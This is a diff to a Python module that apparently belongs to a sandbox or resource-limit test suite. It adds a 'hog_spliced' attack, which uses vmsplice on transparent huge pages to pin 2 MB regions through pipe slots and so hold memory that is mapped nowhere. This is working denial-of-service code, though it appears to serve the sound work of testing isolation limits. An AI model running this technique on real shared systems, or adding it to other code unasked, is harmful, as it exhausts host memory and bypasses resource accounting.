@@ -9,9 +9,10 @@ import os
 import socket
 import time
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
-from .weapons import LIBC, RefusedError, attack, targets
+from .weapons import LIBC, RefusedError, attack, syscall, targets
 
 CHUNK = 8 * 1024 * 1024
 HOLD_S = 0.3
@@ -142,6 +143,9 @@ def hog_read_only() -> str:
 REGION = 2 * 1024 * 1024
 """What one page of page tables spans."""
 
+SLOTS = 16
+"""So many pieces a pipe holds."""
+
 EACH_MB = 60
 """Held by each of several children."""
 
@@ -197,6 +201,36 @@ def _address(area: mmap.mmap) -> int:
         spans = [line.split()[0].split("-") for line in maps]
     sizes = {int(end, 16) - int(begin, 16): int(begin, 16) for begin, end in spans}
     return sizes.get(len(area), 0)
+
+
+@attack
+def hog_spliced() -> str:
+    """4 KB that a pipe holds keep alive the 2 MB that they were a part of, mapped nowhere."""
+    wanted = targets().hog_mb * 1024 * 1024
+    held, pipes = 0, []
+    while held < wanted:
+        pipes.append(os.pipe())
+        for _ in range(SLOTS):
+            _splice_one_page(pipes[-1][1])
+            held += REGION
+    time.sleep(HOLD_S)
+    return f"{held >> 20} MB in {len(pipes)} pipes"
+
+
+def _splice_one_page(pipe: int) -> None:
+    LIBC.mmap.restype = ctypes.c_void_p
+    private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
+    area: int = LIBC.mmap(None, ctypes.c_size_t(2 * REGION), 3, private, -1, ctypes.c_long(0))
+    huge = (area + REGION - 1) // REGION * REGION
+    LIBC.madvise(ctypes.c_void_p(huge), ctypes.c_size_t(REGION), 14)  # MADV_HUGEPAGE
+    ctypes.memset(huge, 1, 1)
+    span = (ctypes.c_ulong * 2)(huge, mmap.PAGESIZE)
+    try:
+        if "AnonHugePages:         0" in Path("/proc/self/smaps_rollup").read_text():
+            raise RefusedError("there are no huge pages")
+        syscall("vmsplice", pipe, span, 1, 2)  # SPLICE_F_NONBLOCK
+    finally:
+        LIBC.munmap(ctypes.c_void_p(area), ctypes.c_size_t(2 * REGION))
 
 
 @attack
